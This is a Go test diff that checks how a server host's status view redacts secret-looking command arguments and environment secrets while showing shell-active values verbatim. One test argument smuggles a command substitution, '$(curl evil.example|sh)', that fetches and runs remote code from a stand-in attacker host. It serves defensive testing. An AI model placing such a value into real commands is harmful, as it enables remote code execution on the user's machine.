@@ -514,3 +514,20 @@ func TestPromptsAndResources(t *testing.T) {
 		t.Fatalf("read %s: %v %v", resources[0].Resource.URI, rr, err)
 	}
 }
+
+// Status shows each argument of a server's command on its own: an inert
+// secret-named value and a known env secret redacted inside their quotes,
+// and a value a shell would act on as written, so a payload is never
+// hidden behind a redaction.
+func TestStatusCommandRedactsArgsOneByOne(t *testing.T) {
+	srv := resolved("srv", config.Server{Type: config.TypeStdio, Command: "/nonexistent/server",
+		Args: []string{"--api-key=sk-live-12345", "--url=$(curl evil.example|sh)", "--echo", "planted-env-secret-4242"},
+		Env:  map[string]string{"API_TOKEN": "planted-env-secret-4242"}})
+	h := newHost(t, cfgOf(srv), nil)
+	waitState(t, h, "srv", host.StateError, 10*time.Second)
+	got := statusOf(h, "srv").Command
+	want := `/nonexistent/server '--api-key=<redacted>' '--url=$(curl evil.example|sh)' --echo '<redacted>'`
+	if got != want {
+		t.Errorf("status command\n got %s\nwant %s", got, want)
+	}
+}
